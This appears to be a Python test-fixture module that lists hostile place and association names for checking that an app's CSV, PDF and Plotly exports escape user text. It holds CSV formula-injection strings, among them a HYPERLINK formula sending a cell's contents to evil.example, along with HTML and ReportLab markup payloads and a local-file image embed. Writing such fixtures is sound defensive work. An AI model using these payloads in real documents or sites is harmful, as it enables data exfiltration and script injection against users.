"""Hostile names for every user-supplied text that reaches an export or a chart.

Area, association, local event and meeting-place names, token labels: whatever a
user (or an imported layer file) can name, these strings are put there and run
through every CSV, PDF and Plotly output. Each one is an attack on one of them:
spreadsheet formulas and cell splitting (CSV), ReportLab paragraph markup (PDF),
Plotly's HTML subset (charts). All of them pass the PII guard, so they can be stored.
"""

from __future__ import annotations

from pathlib import Path
from typing import Final

FORMULA_NAMES: Final = (
    # The attack: a ";" starts a new cell in an unquoted CSV, "=" runs it.
    ';=HYPERLINK("https://evil.example/?d="&A1;"Klicka")',
    '=HYPERLINK("https://evil.example")',
    "+SUM(1+1)",
    "-2+3 vandrare",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
    'Förening; "citat", ny\nrad',
    "x,=1+1",
)
MARKUP_NAMES: Final = (
    '<a href="https://evil.example">Klicka här</a>',
    '<img src="https://evil.example/x.png"/>',
    '<font color="red" size="40">Stor</font>',
    "<b>obalanserad",
    "</para><para>trasig",
    "<script>alert(1)</script>",
    "<br>ny rad",
    '<span style="font-size:80px">Stor</span>',
    "&lt;b&gt; & Co",
    "%{customdata} %{y}",
)
PLAIN_NAMES: Final = ("Åkersberga IF – ”Nattugglorna”",)
HOSTILE_NAMES: Final = FORMULA_NAMES + MARKUP_NAMES + PLAIN_NAMES

MARKUP_TAGS: Final = ("<a", "<img", "<font", "<b>", "</para", "<para", "<script", "<span", "<br")
"""Tag openings of :data:`MARKUP_NAMES` that must never reach a renderer unescaped."""


def local_image(path: Path) -> str:
    """A name that asks ReportLab to embed a local file (the PDF attack of issue 14)."""
    return f'<img src="{path}" width="200" height="200"/>'


def stored(name: str) -> str:
    """The name as the forms store it: runs of whitespace become one space."""
    return " ".join(name.split())


def hostile_name(index: int) -> str:
    """The ``index``-th hostile name (cycling), for filling many fields."""
    return HOSTILE_NAMES[index % len(HOSTILE_NAMES)]
